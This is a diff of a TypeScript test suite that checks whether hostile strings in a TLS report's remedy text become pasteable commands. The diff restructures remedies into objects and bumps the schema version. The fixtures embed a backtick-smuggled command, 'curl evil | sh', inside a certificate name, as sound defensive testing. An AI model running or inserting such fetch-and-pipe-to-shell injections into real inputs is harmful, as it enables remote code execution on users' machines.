@@ -89,9 +89,16 @@ describe('hostile strings in every member of a report', () => {
   it('backticks in a name do not make a command to be pasted', () => {
     const { captures, connections } = sampleReport('tls12-server-self-signed');
     const [connection] = connections as readonly [ConnectionReport];
-    const remedies = ['Add the CA (CN=x`curl evil | sh`y) to the file: `curl --cacert ca.crt https://HOST/`'];
+    const remedies = [
+      {
+        code: 'trust_issuer',
+        text: 'Add the CA (CN=x`curl evil | sh`) to the file:',
+        command: 'curl --cacert ca.crt https://HOST/',
+      },
+      { code: 'send_chain', text: 'Or send CN=`curl evil | sh`' },
+    ];
     const report: Report = {
-      schemaVersion: 1,
+      schemaVersion: 2,
       captures,
       connections: [{ ...connection, verdict: { ...connection.verdict, remedies } }],
     };
@@ -130,7 +137,7 @@ describe('hostile strings in every member of a report', () => {
     ]) {
       const { captures, connections } = sampleReport('tls12-server-self-signed');
       const report = {
-        schemaVersion: 1 as const,
+        schemaVersion: 2 as const,
         captures,
         connections: connections.map((connection) => ({
           ...connection,
